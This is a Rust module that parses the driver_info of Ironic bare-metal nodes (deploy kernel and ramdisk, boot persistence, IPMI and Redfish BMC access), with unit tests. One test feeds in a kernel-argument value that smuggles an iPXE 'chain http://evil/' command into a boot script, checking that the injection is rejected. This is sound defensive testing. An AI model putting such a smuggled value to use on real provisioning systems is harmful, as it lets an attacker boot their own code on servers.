//! What `driver_info` of a node says: how its BMC is reached, and what its agent boots. Pure.
//!
//! | module | content |
//! |---|---|
//! | [`keys`] | the keys that Ironic documents, and what becomes of each |
//! | [`ipmi`], [`redfish`] | the properties of each kind of BMC |
//! | `values` | values in every form that clients send |

pub mod ipmi;
pub mod keys;
pub mod redfish;
mod values;

use domain::{driver::Driver, kernel_arguments::KernelArgumentsError, net::BmcAddr, power::BootPersistence};
use keyspace::value::{ExtraFields, Ipmi, IronicRamdisk, NodeSpec, Redfish};
use serde_json::{Map, Value};
use wire_ironic::error::{Class, Error};

pub use self::values::plain;

/// The ramdisk that a node with an agent names, if it names both of its files. Kernel arguments of the instance have
/// precedence.
///
/// # Errors
/// `Invalid` if kernel arguments cannot be put into a boot script, also where no ramdisk is named yet.
pub fn ironic_ramdisk(driver: Driver, spec: &NodeSpec) -> Result<Option<IronicRamdisk>, Error> {
    let (info, instance) = (spec.driver_info.as_ref(), spec.instance_info.as_ref());
    let of = |fields: Option<&'_ ExtraFields>, name: &str| {
        fields.and_then(|fields| fields.text(name)).filter(|text| !text.is_empty()).map(str::to_owned)
    };
    let arguments = |fields: Option<&ExtraFields>, dictionary: &str| {
        let parsed = of(fields, "kernel_append_params").map(|text| text.parse()).transpose();
        parsed.map_err(|error: KernelArgumentsError| {
            Class::Invalid.error(format!("{dictionary}/kernel_append_params is invalid: {error}."))
        })
    };
    let (of_node, of_instance) = (arguments(info, "driver_info")?, arguments(instance, "instance_info")?);
    let named = of(info, "deploy_kernel").zip(of(info, "deploy_ramdisk"));
    let named = named.filter(|_| driver != Driver::FakeHardware);
    Ok(named.map(|(kernel, ramdisk)| IronicRamdisk { kernel, ramdisk, arguments: of_instance.or(of_node) }))
}

/// Which boot orders of a node last longer than one boot.
#[must_use]
pub fn boot_persistence(spec: &NodeSpec) -> BootPersistence {
    let named = spec.driver_info.as_ref().and_then(|info| info.as_map().get("force_persistent_boot_device"));
    named.and_then(values::boot_persistence).unwrap_or_default()
}

/// Address of a BMC, and the keys of its user name and password in `driver_info`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BmcAccess {
    /// Its address.
    pub address: BmcAddr,
    /// Settings of an IPMI BMC, without the key K_G.
    pub ipmi: Ipmi,
    /// Settings of a Redfish BMC.
    pub redfish: Option<Redfish>,
    /// The key of the user name.
    pub user: &'static str,
    /// The key of the password.
    pub password: &'static str,
}

/// Parses how to reach a BMC. `None` if `driver_info` is incomplete or invalid.
#[must_use]
pub fn bmc_access(driver: Driver, info: &Map<String, Value>) -> Option<BmcAccess> {
    match driver {
        Driver::Ipmi => {
            let (address, ipmi) = (ipmi::address(info)?, ipmi::parse(info).ok()?);
            Some(BmcAccess { address, ipmi, redfish: None, user: "ipmi_username", password: "ipmi_password" })
        }
        Driver::Redfish => {
            let (address, redfish) = redfish::parse(info).ok().flatten()?;
            let (ipmi, redfish) = (Ipmi::default(), Some(redfish));
            Some(BmcAccess { address, ipmi, redfish, user: "redfish_username", password: "redfish_password" })
        }
        Driver::FakeHardware | Driver::ManualManagement => None,
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn a_ramdisk_needs_both_kernel_and_ramdisk() {
        let node = |info: &Value| -> NodeSpec { serde_json::from_value(json!({ "driver_info": info })).unwrap() };
        let whole =
            json!({"deploy_kernel": "http://h/k", "deploy_ramdisk": "ipa", "kernel_append_params": "%default% x"});
        let of = |driver, info: &Value| ironic_ramdisk(driver, &node(info)).unwrap();
        let named = of(Driver::Ipmi, &whole).unwrap();
        assert_eq!((named.kernel.as_str(), named.ramdisk.as_str()), ("http://h/k", "ipa"));
        assert_eq!(named.arguments.unwrap().as_str(), "%default% x");
        let partial = json!({"deploy_kernel": "http://h/k", "deploy_ramdisk": ""});
        assert_eq!(of(Driver::Ipmi, &partial), None);
        assert_eq!(of(Driver::FakeHardware, &whole), None);
    }

    #[test]
    fn kernel_arguments_that_would_become_commands_of_a_boot_script_are_rejected_with_their_place() {
        let refused = |node: Value| {
            let spec: NodeSpec = serde_json::from_value(node).unwrap();
            ironic_ramdisk(Driver::FakeHardware, &spec).unwrap_err().text
        };
        let text = refused(json!({"driver_info": {"kernel_append_params": "quiet\nchain http://evil/"}}));
        assert!(
            text.starts_with("driver_info/kernel_append_params is invalid: ") && text.contains("one line"),
            "{text}"
        );
        let text = refused(json!({"instance_info": {"kernel_append_params": "quiet ${net0/mac}"}}));
        assert!(text.starts_with("instance_info/kernel_append_params is invalid: "), "{text}");
    }
}
